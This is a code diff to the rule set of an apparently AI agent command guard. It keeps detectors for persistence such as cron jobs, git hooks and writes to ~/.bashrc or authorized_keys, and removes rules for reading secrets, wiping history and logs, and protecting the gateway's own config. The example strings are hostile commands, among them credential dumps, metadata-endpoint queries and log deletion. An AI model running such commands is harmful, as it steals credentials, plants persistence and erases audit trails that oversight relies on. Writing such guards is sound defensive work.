@@ -1,56 +1,132 @@
-"""Persistence, secrets and traces (A11, A12, A20)."""
+"""What stays and runs later (A11)."""
 
 from __future__ import annotations
 
+import functools
+
 from agent.control.guard.rules.model import PlaceRule, Rule
 
-_STAY = {"cls": "A11", "category": "persistence"}
-_SECRET = {"cls": "A12", "category": "secrets"}
-_TRACE = {"cls": "A20", "category": "history"}
+_rule = functools.partial(Rule, cls="A11", category="persistence")
+_place = functools.partial(PlaceRule, cls="A11", category="persistence")
 
 RULES: tuple[Rule, ...] = (
-    Rule(**_STAY, id="cron.change", programs="crontab", text=r"^(?!.*(?:^|\s)-l(?:\s|$))", reason="It changes jobs that run later.", match=("crontab -r", "crontab jobs.txt", "echo '* * * * * x' | crontab -"), spare=("crontab -l",)),
-    Rule(**_STAY, id="at.job", programs="at batch", without="-l -c -V", reason="It starts something later, out of sight.", match=("at now + 1 minute -f job.sh", "echo 'rm -rf ~/data' | at midnight"), spare=("atq", "at -l")),
-    Rule(**_STAY, id="atrm", programs="atrm", reason="It deletes jobs that wait.", match=("atrm 3",), spare=("atq",)),
-    Rule(**_STAY, id="systemd-run.timer", programs="systemd-run", text=r"--on-(?:active|boot|calendar|startup|unit-active)|--timer-property", reason="It starts something later, out of sight.", match=("systemd-run --on-active=60 ls",), spare=("systemd-run --user --scope ls",)),
-    Rule(**_STAY, id="ssh-copy-id", programs="ssh-copy-id ssh-import-id", reason="It lets a key log in on another host.", match=("ssh-copy-id root@db.example.com",), spare=("ssh-keyscan host",)),
-    Rule(**_STAY, id="git.config-run", programs="git", verbs=("config",), text=r"\bconfig\b.*?(?:^|\s)['\"]?(?:core\.(?:pager|editor|sshcommand|fsmonitor|hookspath|askpass|gitproxy|attributesfile|worktree)|pager\.\S+|sequence\.editor|diff\.\S*(?:command|textconv|external)|(?:diff|merge)tool\.\S*cmd|merge\.\S*driver|filter\.\S+|credential\.\S*helper|gpg\.\S*program|gpg\.program|init\.templatedir|remote\.\S*(?:uploadpack|receivepack|proxy)|protocol\.\S*allow|include(?:if)?\.\S*path|url\.\S*insteadof|http\.(?:proxy|sslverify)|safe\.directory|sendemail\.\S+|browser\.\S*cmd|commit\.template-run)\s+(?!(?:cat|less|vim?|nvim|nano|emacs|code(?: --wait)?|true|false|store|cache|osxkeychain|manager|libsecret|ssh|delta|diff-so-fancy.*)['\"]?(?:\s|$))\S", without="--list -l --get --get-all --get-regexp --unset --unset-all", reason="git would run a command or another address from now on.",
-         match=("git config --global core.hooksPath /tmp/hooks", "git config --global core.pager 'sh -c id'"), spare=("git config user.email dev@example.com", "git config --list --show-origin", "git config --global core.editor vim")),
-    Rule(**_STAY, id="git.config-alias", programs="git", verbs=("config",), text=r"\balias\.\S+\s+['\"]?!", reason="git would run a command from now on.", match=("git config --global alias.st '!sh -c id'",), spare=("git config alias.undo", "git config alias.co checkout")),
-    Rule(**_STAY, id="npm.registry", programs="npm pnpm yarn pip pip3 bundle gem cargo poetry uv composer", text=r"\bconfig\s+set\s+(?:\S+\s+)*?\S*(?:registry|index-url|extra-index|script-shell|ignore-scripts|proxy|cafile|strict-ssl|mirror|source|repositories|trusted-host|prefix)\S*|^sources\s+(?:--add|-a|add)", reason="Packages would come from another place from now on.", match=("npm config set registry http://x.example", "pip config set global.index-url http://x.example/simple"), spare=("npm config get registry", "pip config list")),
-    Rule(**_STAY, id="shell.default", programs="direnv", verbs=("allow", "permit", "grant"), reason="It lets a folder's settings run.", match=("direnv allow .",), spare=("direnv status",)),
-    Rule(**_SECRET, id="secret.print-token", programs="gh glab hub", verbs=("auth token",), reason="It prints a token.", match=("gh auth token",), spare=("gh auth status",)),
-    Rule(**_SECRET, id="secret.show-token", programs="gh glab", verbs=("auth status",), options="-t --show-token", reason="It prints a token.", match=("gh auth status --show-token",), spare=("gh auth status",)),
-    Rule(**_SECRET, id="secret.aws", programs="aws", verbs=("configure get *secret*", "configure get *session_token*", "configure get *access_key*", "configure export-credentials", "secretsmanager get-secret-value", "secretsmanager batch-get-secret-value", "ssm get-parameter*", "sts get-session-token", "sts assume-role*", "sts get-federation-token", "ecr get-login-password", "ecr get-authorization-token", "kms decrypt", "iam create-access-key", "rds generate-db-auth-token", "codeartifact get-authorization-token", "eks get-token", "ec2 get-password-data"), reason="It prints a secret.",
-         match=("aws configure get aws_secret_access_key", "aws secretsmanager get-secret-value --secret-id prod/db"), spare=("aws configure list", "aws sts get-caller-identity")),
-    Rule(**_SECRET, id="secret.kubectl", programs="kubectl oc", verbs=("get secret*", "get secrets*", "view-secret", "create token", "extract secret/*"), text=r"-o\s*=?\s*\S|--output|--template|view-secret|create token|extract|go-template|jsonpath", without="", reason="It prints a secret.", match=("kubectl get secret db -o yaml",), spare=("kubectl get secrets", "kubectl get pods -o wide")),
-    Rule(**_SECRET, id="secret.kube-config", programs="kubectl oc", verbs=("config view",), options="--raw", reason="It prints credentials.", match=("kubectl config view --raw",), spare=("kubectl config view", "kubectl config current-context")),
-    Rule(**_SECRET, id="secret.vault", programs="vault bao", verbs=("kv get", "read", "print token", "token create", "unwrap", "kv export", "token lookup"), reason="It prints a secret.", match=("vault kv get secret/prod",), spare=("vault kv list secret", "vault status")),
-    Rule(**_SECRET, id="secret.managers", programs="op bw pass gopass lpass keepassxc-cli doppler infisical chamber sops age-decrypt rbw secret-tool kwallet-query keyring akeyless berglas teller", verbs=("read", "item get", "get *", "get", "show", "show *", "secrets", "secrets get", "secrets download", "export", "decrypt", "-d", "--decrypt", "lookup", "unlock", "run -- env", "list items", "clip", "code", "signin", "inject", "document get", "secrets --plain"), reason="It prints a secret.", match=("op read op://a/b/c", "pass show mail", "bw get password x"), spare=("op account list", "pass ls")),
-    Rule(**_SECRET, id="secret.printenv", programs="printenv", operand=r"SECRET|TOKEN|PASSW|CREDENTIAL|(?:API|ACCESS|PRIVATE|AUTH)_?KEY|_PAT$", reason="It prints a secret variable.", match=("printenv AWS_SECRET_ACCESS_KEY",), spare=("printenv HOME",)),
-    Rule(**_SECRET, id="secret.sops", programs="sops", options="-d --decrypt", reason="It prints secrets.", match=("sops -d secrets.enc.yaml",), spare=("sops --version",)),
-    Rule(**_SECRET, id="secret.cloud", programs="gcloud az heroku fly flyctl vercel netlify railway doctl firebase ansible-vault wrangler supabase databricks oci ibmcloud linode-cli", text=r"\b(?:auth print-(?:access|identity)-token|auth application-default print-access-token|secrets versions access|account get-access-token|keyvault secret (?:show|download)|config:get|config\b.*--(?:shell|json)|config\s+-a|^config\s*$|auth:token|authorizations|auth token|env pull|variables --kv|auth print|functions:config:get|ansible-vault view|storage account keys|acr credential show|ad sp create|get-credentials.*--admin|view\s+\S|decrypt\s+\S|webapp config appsettings list|cosmosdb keys|redis list-keys|iam service-accounts keys create)", reason="It prints a secret.", match=("gcloud auth print-access-token", "az keyvault secret show --name x --vault-name y", "heroku config:get KEY"), spare=("gcloud auth list", "az account show", "gcloud projects list")),
-    Rule(**_SECRET, id="secret.keychain", programs="security", verbs=("find-*-password", "dump-keychain", "export", "find-identity", "cms", "unlock-keychain", "add-*-password", "delete-*-password"), text=r"(?:^|\s)-\w*[wga]|dump-keychain|export|unlock", reason="It reads the keychain.", match=("security find-generic-password -wa github",), spare=("security list-keychains",)),
-    Rule(**_SECRET, id="secret.gpg-export", programs="gpg gpg2", text=r"--export-secret-(?:sub)?keys?", reason="It exports private keys.", match=("gpg --export-secret-keys -a > keys.asc",), spare=("gpg --export -a me",)),
-    Rule(**_SECRET, id="secret.git-credential", programs="git", verbs=("credential fill", "credential-store get", "credential-osxkeychain get", "credential-cache get", "credential-manager get"), reason="It prints credentials.", match=("git credential fill",), spare=("git credential reject",)),
-    Rule(**_SECRET, id="secret.metadata", programs="curl wget http https xh fetch", operand=r"169\.254\.169\.254|metadata\.google\.internal|\[fd00:ec2::254\]|100\.100\.100\.200|169\.254\.170\.2|metadata\.azure", reason="It reads the credentials of this machine's cloud instance.", match=("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",), spare=("curl https://x.example/169",)),
-    Rule(**_SECRET, id="secret.process-environment", programs="ps", text=r"(?:^|\s)-?\w*(?<![a-z])(?:auxe\w*|axe\w*|eww\w*|auxwwe|-\w*E)(?:\s|$)", reason="It shows the environment of other processes.", match=("ps auxeww", "ps eww 1"), spare=("ps aux", "ps -ef", "ps -eo pid,comm --sort=-rss")),
-    Rule(**_SECRET, id="secret.memory", programs="gcore memdump mimikatz lazagne mimipenguin procdump john hashcat unshadow secretsdump.py keyctl ssh-add-dump", text=r"^(?!show|list).+|^$", reason="It reads secrets out of memory or cracks them.", match=("gcore 4242", "john hashes"), spare=("keyctl show",)),
-    Rule(**_SECRET, id="secret.hunt", programs="grep egrep rg ag zgrep git", text=r"(?:BEGIN (?:RSA |OPENSSH |EC )?PRIVATE KEY|AKIA\[|password\s*=).*\s(?:/|~|/home|/etc|/root|\$HOME|/home/\S+)\s*$", reason="It looks for secrets outside the workspace.", match=("grep -r 'BEGIN RSA PRIVATE KEY' /home",), spare=("grep -rn 'BEGIN RSA PRIVATE KEY' src/",)),
-    Rule(**_TRACE, id="history.clear", programs="history fc", options="-c -d -w -r", without="-l", text=r"(?:^|\s)-\w*[cdw]", reason="It wipes the shell's history.", match=("history -c && history -w",), spare=("history | tail -20", "history 5")),
-    Rule(**_TRACE, id="history.off", programs="set shopt unsetopt", text=r"^(?:\+o\s+history|-u\s+histappend|\+o\s+hist\w*|\+H.*history)", reason="What follows would not be kept in the history.", match=("set +o history",), spare=("set -o pipefail", "set +x")),
-    Rule(**_TRACE, id="history.unset", programs="unset", operand=r"^(?:HISTFILE|HISTSIZE|HISTFILESIZE|HISTIGNORE|HISTCONTROL|PROMPT_COMMAND|TMOUT)$", reason="What follows would not be kept in the history.", match=("unset HISTFILE; make deploy",), spare=("unset DEBUG",)),
-    Rule(**_TRACE, id="log.journal", programs="journalctl", text=r"--(?:vacuum-\w+|rotate|flush|relinquish-var|setup-keys)", reason="It shortens the journal of the system.", match=("sudo journalctl --rotate --vacuum-time=1s",), spare=("journalctl --disk-usage", "journalctl -u nginx")),
-    Rule(**_TRACE, id="log.dmesg", programs="dmesg", options="-C --clear -c --read-clear -D --console-off -E -n --console-level", reason="It clears the kernel's messages.", match=("sudo dmesg -C",), spare=("dmesg | tail", "dmesg -T")),
-    Rule(**_TRACE, id="log.audit", programs="auditctl augenrules", text=r"(?:^|\s)-(?:e\s*0|D|d|R|W|e)\b", reason="It changes what the system's audit records.", match=("sudo auditctl -e 0",), spare=("auditctl -s", "auditctl -l")),
-    Rule(**_TRACE, id="log.tools", programs="logrotate wevtutil clear-eventlog utmpdump auditd rsyslogd last-clear lastlog", text=r"(?:^|\s)(?:-f|--force|cl|clear-log|-r|--reverse|-C|--clear|-S)(?:\s|$)|clear", reason="It wipes or rotates logs.", match=("logrotate -f /etc/logrotate.conf", "wevtutil cl System"), spare=("lastlog -u bob", "logrotate -d x.conf")),
-)  # fmt: skip
+    _rule(
+        id="cron.change",
+        programs="crontab",
+        text=r"^(?!.*(?:^|\s)-l(?:\s|$))",
+        reason="It changes jobs that run later.",
+        match=("crontab -r", "crontab jobs.txt", "echo '* * * * * x' | crontab -"),
+        spare=("crontab -l",),
+    ),
+    _rule(
+        id="at.job",
+        programs="at batch",
+        without="-l -c -V",
+        reason="It starts something later, out of sight.",
+        match=("at now + 1 minute -f job.sh", "echo 'rm -rf ~/data' | at midnight"),
+        spare=("atq", "at -l"),
+    ),
+    _rule(
+        id="atrm",
+        programs="atrm",
+        reason="It deletes jobs that wait.",
+        match=("atrm 3",),
+        spare=("atq",),
+    ),
+    _rule(
+        id="systemd-run.timer",
+        programs="systemd-run",
+        text="--on-(?:active|boot|calendar|startup|unit-active)|--timer-property",
+        reason="It starts something later, out of sight.",
+        match=("systemd-run --on-active=60 ls",),
+        spare=("systemd-run --user --scope ls",),
+    ),
+    _rule(
+        id="ssh-copy-id",
+        programs="ssh-copy-id ssh-import-id",
+        reason="It lets a key log in on another host.",
+        match=("ssh-copy-id root@db.example.com",),
+        spare=("ssh-keyscan host",),
+    ),
+    _rule(
+        id="git.config-run",
+        programs="git",
+        verbs=("config",),
+        without="--list -l --get --get-all --get-regexp --unset --unset-all",
+        text=(
+            r"\bconfig\b.*?(?:^|\s)['\"]?(?:core\.(?:pager|editor|sshcommand|fsmonitor|hookspath"
+            r"|askpass|gitproxy|attributesfile|worktree)|pager\.\S+|sequence\.editor"
+            r"|diff\.\S*(?:command|textconv|external)|(?:diff|merge)tool\.\S*cmd|merge\.\S*driver"
+            r"|filter\.\S+|credential\.\S*helper|gpg\.\S*program|gpg\.program|init\.templatedir"
+            r"|remote\.\S*(?:uploadpack|receivepack|proxy)|protocol\.\S*allow|include(?:if"
+            r")?\.\S*path|url\.\S*insteadof|http\.(?:proxy|sslverify)|safe\.directory"
+            r"|sendemail\.\S+|browser\.\S*cmd|commit\.template-run)\s+(?!(?:cat|less|vim?|nvim"
+            "|nano|emacs|code(?: --wait)?|true|false|store|cache|osxkeychain|manager|libsecret"
+            r"|ssh|delta|diff-so-fancy.*)['\"]?(?:\s|$))\S"
+        ),
+        reason="git would run a command or another address from now on.",
+        match=("git config --global core.hooksPath /tmp/hooks", "git config --global core.pager 'sh -c id'"),
+        spare=(
+            "git config user.email dev@example.com",
+            "git config --list --show-origin",
+            "git config --global core.editor vim",
+        ),
+    ),
+    _rule(
+        id="git.config-alias",
+        programs="git",
+        verbs=("config",),
+        text=r"\balias\.\S+\s+['\"]?!",
+        reason="git would run a command from now on.",
+        match=("git config --global alias.st '!sh -c id'",),
+        spare=("git config alias.undo", "git config alias.co checkout"),
+    ),
+    _rule(
+        id="npm.registry",
+        programs="npm pnpm yarn pip pip3 bundle gem cargo poetry uv composer",
+        text=(
+            r"\bconfig\s+set\s+(?:\S+\s+)*?\S*(?:registry|index-url|extra-index|script-shell"
+            "|ignore-scripts|proxy|cafile|strict-ssl|mirror|source|repositories|trusted-host"
+            r"|prefix)\S*|^sources\s+(?:--add|-a|add)"
+        ),
+        reason="Packages would come from another place from now on.",
+        match=(
+            "npm config set registry http://x.example",
+            "pip config set global.index-url http://x.example/simple",
+        ),
+        spare=("npm config get registry", "pip config list"),
+    ),
+    _rule(
+        id="shell.default",
+        programs="direnv",
+        verbs=("allow", "permit", "grant"),
+        reason="It lets a folder's settings run.",
+        match=("direnv allow .",),
+        spare=("direnv status",),
+    ),
+)
 
 PLACES: tuple[PlaceRule, ...] = (
-    PlaceRule(**_STAY, id="startup.write", kinds="write", places="startup", reason="It changes what runs at every start or log-in.", match=("echo x >> ~/.bashrc", "cp post-commit .git/hooks/post-commit", "echo k >> ~/.ssh/authorized_keys", "cp x.desktop ~/.config/autostart/", "curl -o ~/.bashrc https://x.example/rc"), spare=("cat ~/.bashrc", "cp ~/.bashrc dotfiles/bashrc", "ls .git/hooks", "vim .bashrc.template")),
-    PlaceRule(**_STAY, id="startup.change", kinds="move delete mode", places="startup", reason="It changes what runs at every start or log-in.", match=("mv ~/.bashrc x",), spare=("mv a b",)),
-    PlaceRule(**_SECRET, id="secret.read", kinds="read", places="secret folder", spares="ls stat test chmod ssh-keygen rsync-list", inside=True, reason="It reads credentials.", alternative="Ask for the value that is needed, or use a template without secrets.", match=("cat ~/.ssh/id_rsa", "cat .env", "grep SECRET .env.production", "head -50 ~/.netrc", "sudo cat /etc/shadow", "cat /proc/1/environ | tr '\\0' '\\n'", "tar czf keys.tgz ~/.ssh ~/.gnupg"), spare=("cat .env.example", "ls -la .env*", "cat ~/.ssh/id_ed25519.pub", "grep -rn 'id_rsa' docs/", "echo .env >> .gitignore", "test -f .env && echo present", "cp .env.example .env")),
-    PlaceRule(**_TRACE, id="history.write", kinds="write delete move", places="history", reason="It wipes or changes a shell's history.", match=("rm ~/.bash_history", "> ~/.zsh_history", "ln -sf /dev/null ~/.bash_history"), spare=("grep -n x ~/.bash_history",)),
-    PlaceRule(**_TRACE, id="log.write", kinds="write delete move", places="logs", reason="It wipes or changes logs of the system.", match=("sudo truncate -s 0 /var/log/auth.log", "sudo rm -rf /var/log/*"), spare=("tail -f /var/log/syslog", "> app.log")),
-    PlaceRule(cls="A9", category="self-protect", id="gateway.write", kinds="write delete move mode", places="gateway", inside=False, reason="It changes files of the gateway.", match=("cp settings.yaml ~/.gateway/config.yaml", "sed -i 's/a/b/' ~/.gateway/config.yaml"), spare=("tail -n 50 ~/.gateway/audit.log",)),
-)  # fmt: skip
+    _place(
+        id="startup.write",
+        kinds="write",
+        places="startup",
+        reason="It changes what runs at every start or log-in.",
+        match=(
+            "echo x >> ~/.bashrc",
+            "cp post-commit .git/hooks/post-commit",
+            "echo k >> ~/.ssh/authorized_keys",
+            "cp x.desktop ~/.config/autostart/",
+            "curl -o ~/.bashrc https://x.example/rc",
+        ),
+        spare=("cat ~/.bashrc", "cp ~/.bashrc dotfiles/bashrc", "ls .git/hooks", "vim .bashrc.template"),
+    ),
+    _place(
+        id="startup.change",
+        kinds="move delete mode",
+        places="startup",
+        reason="It changes what runs at every start or log-in.",
+        match=("mv ~/.bashrc x",),
+        spare=("mv a b",),
+    ),
+)
